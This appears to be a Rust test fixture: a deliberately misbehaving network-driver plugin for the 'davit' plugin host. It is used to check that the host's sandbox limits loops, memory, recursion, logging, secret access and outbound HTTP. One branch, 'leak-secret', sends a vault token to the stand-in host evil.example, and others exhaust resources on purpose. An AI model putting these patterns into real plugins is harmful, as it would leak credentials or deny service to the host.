//! A network driver that does, by the network's name, everything that a plugin should not do.

use davit_plugin_sdk::{
    host::{clock, config, http, log, secrets, state},
    network::{EndpointPlan, EndpointRequest, Error, NetworkDriver, NetworkPlan, NetworkRequest, NetworkView, Result},
};
use std::hint::black_box;

struct Misbehaving;

fn loop_for_ever() -> Result<()> {
    let mut n = 0u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn loop_in_host_calls() -> Result<()> {
    loop {
        black_box(clock::now_ms());
    }
}

fn allocate_without_end() -> Result<()> {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        kept.push(black_box(vec![1; 1 << 20]));
    }
}

#[allow(unconditional_recursion, reason = "that is the point")]
fn recurse(n: u64) -> u64 {
    let here = black_box([n; 64]);
    recurse(here.iter().sum::<u64>().wrapping_add(n)).wrapping_add(here.len() as u64)
}

fn drop_error<T>(result: Result<T>) -> Result<()> {
    result.map(drop)
}

/// Keeps nothing in linear memory, so that only the host's own stack grows.
#[inline(never)]
fn recurse_thin(n: u64, end: u64) -> u64 {
    if n == end { 1 } else { recurse_thin(n + 1, end).rotate_left(3) ^ n }
}

impl NetworkDriver for Misbehaving {
    fn plan_network(request: &NetworkRequest, plan: &NetworkPlan) -> Result<()> {
        match request.name().as_str() {
            "behave" => drop_error(plan.bridge()),
            "endless-loop" => loop_for_ever(),
            "endless-host-calls" => loop_in_host_calls(),
            "allocate" => allocate_without_end(),
            "panic" => panic!("on purpose"),
            "recurse" => {
                black_box(recurse(1));
                Ok(())
            }
            "recurse-thin" => {
                black_box(recurse_thin(0, clock::now_ms()));
                Ok(())
            }
            "oversized-error" => Err(Error::Other("x".repeat(3 << 20))),
            "oversized-argument" => {
                log::write(log::Level::Info, &"x".repeat(6 << 20));
                Ok(())
            }
            "million-steps" => (0..1_000_000).try_for_each(|_| drop_error(plan.bridge())),
            "million-handles" => {
                let kept: Vec<_> = (0..1_000_000).map(|_| http::Request::new("GET", "https://a")).collect();
                black_box(kept.len());
                Ok(())
            }
            "log-flood" => {
                for n in 0..100_000 {
                    log::write(log::Level::Info, &format!("line {n} of a flood that nobody asked for"));
                }
                Ok(())
            }
            "block-in-host-call" => drop_error(plan.subnet(None, false)),
            "ask-state" => drop_error(state::get("key")),
            "ask-secret" => drop_error(secrets::named("vault-token")),
            "ask-other-secret" => drop_error(secrets::named("root-password")),
            "ask-stored" => drop_error(secrets::stored("registry.example")),
            "ask-http" => drop_error(http::Request::new("GET", "https://vault.example/v1").send()),
            "ask-other-http" => drop_error(http::Request::new("GET", "https://evil.example/v1").send()),
            "leak-secret" => {
                let secret = secrets::named("vault-token")?;
                let request = http::Request::new("POST", "https://evil.example/collect");
                request.bearer(&secret)?;
                drop_error(request.send())
            }
            "read-guarded" => {
                let secret = secrets::named("vault-token")?;
                let request = http::Request::new("GET", "https://vault.example/token");
                request.bearer(&secret)?;
                let response = request.send()?;
                for read in
                    [drop_error(response.body()), drop_error(response.json("/token")), drop_error(response.json(""))]
                {
                    if !matches!(read, Err(Error::Denied(_))) {
                        return Err(Error::Other("a secret could be read".to_owned()));
                    }
                }
                if response.header("x-token").is_some() || response.json("/expires_in")? != Some("300".to_owned()) {
                    return Err(Error::Other("the wrong things are open".to_owned()));
                }
                drop_error(response.take_secret("/token"))
            }
            "ask-vlan" => drop_error(plan.vlan("eth9", 5)),
            "ask-other-vlan" => drop_error(plan.vlan("eth0", 5)),
            "write-state" => {
                let seen = state::get("count")?;
                drop_error(state::swap("count", seen.as_deref(), Some(b"1")))?;
                match state::get("count")?.as_deref() {
                    Some(b"1") => Ok(()),
                    _ => Err(Error::Other("a call does not see its own write".to_owned())),
                }
            }
            "write-state-and-fail" => {
                state::swap("lost", None, Some(b"1"))?;
                Err(Error::Conflict("changed my mind".to_owned()))
            }
            "config" => Err(Error::Other(config::get("a.b")?.unwrap_or_default())),
            other => Err(Error::Unsupported(other.to_owned())),
        }
    }

    fn plan_endpoint(_: &EndpointRequest, _: &NetworkView, plan: &EndpointPlan) -> Result<()> {
        plan.share_host()
    }
}

davit_plugin_sdk::export!(network: Misbehaving);
